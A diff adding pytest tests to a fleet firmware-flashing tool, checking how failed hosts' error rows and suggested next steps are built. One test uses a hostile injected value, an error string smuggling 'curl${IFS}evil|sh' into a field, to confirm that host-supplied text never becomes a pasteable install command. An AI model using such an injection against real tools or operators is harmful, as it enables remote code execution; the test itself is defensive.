@@ -48,3 +48,43 @@ def test_another_failure_to_prepare_still_reads_unreachable(monkeypatch, tmp_pat
     for row in _prepare_fails(monkeypatch, tmp_path, refused):
         assert row.status == "unreachable" and "Connection refused" in row.error
         assert row.next_step.startswith("check that hosta answers: ssh hosta true; then amdflash fleet flash")
+
+
+def test_a_host_s_words_never_become_an_install_step(monkeypatch, tmp_path: Path) -> None:
+    """The install step is for a program this machine's PATH lacked, never built from an error's
+    text: a refused row whose error a host (or a spec the coordinator published) made say 'is not
+    installed on this machine' gets no such step (an attacker's spec made it print
+    `install /x;curl …|sh;# …` for the operator to paste)."""
+    fleet = FleetRun("127.0.0.1:20408", {"line": "a"}, "info")
+    job = _job("hosta-b1")
+    job.row.status = "refused"
+    job.row.error = "sim:/x;curl${IFS}evil|sh;# is not installed on this machine is not an emulated board"
+    assert fleet._next_step(job.row, job.board) is None
+
+
+def test_a_program_that_failed_says_why_in_the_row(monkeypatch, tmp_path: Path) -> None:
+    """rsync that ran and failed (the host's cache not writable, its disk full): its last line is in
+    the row's error, as labgrid's exception does not carry it and its lines are no longer printed."""
+    said = b"sending incremental file list\r\nrsync: mkstemp \"/var/cache/labgrid/op/x\" failed: Permission denied (13)\n"
+
+    def failed() -> None:
+        raise subprocess.CalledProcessError(23, ["rsync", "image.bin", "hosta:/var/cache/labgrid"], output=said)
+
+    for row in _prepare_fails(monkeypatch, tmp_path, failed):
+        assert row.status == "unreachable"
+        assert row.error.endswith('rsync: mkstemp "/var/cache/labgrid/op/x" failed: Permission denied (13)'), row.error
+
+
+def test_ssh_that_cannot_be_started_is_a_row_not_a_crash(monkeypatch, tmp_path: Path) -> None:
+    """A job with no image to copy starts ssh directly: ssh missing here is a refused row with its
+    install step, not an internal error that leaves the other hosts' jobs unwatched."""
+    empty = tmp_path / "bin"
+    empty.mkdir()
+    monkeypatch.setenv("PATH", str(empty))
+    fleet = FleetRun("127.0.0.1:20408", {"line": "a"}, "info")
+    monkeypatch.setattr(FleetRun, "_command", lambda self, batch: ["ssh", "hosta", "true"])
+    batch = _Batch([_job("hosta-b1")])
+    asyncio.run(fleet._run_batch(SimpleNamespace(lost=True), batch))
+    row = batch.jobs[0].row
+    assert row.status == "refused" and "ssh is not installed on this machine" in row.error
+    assert fleet._next_step(row, batch.jobs[0].board).startswith("install ssh on this machine")
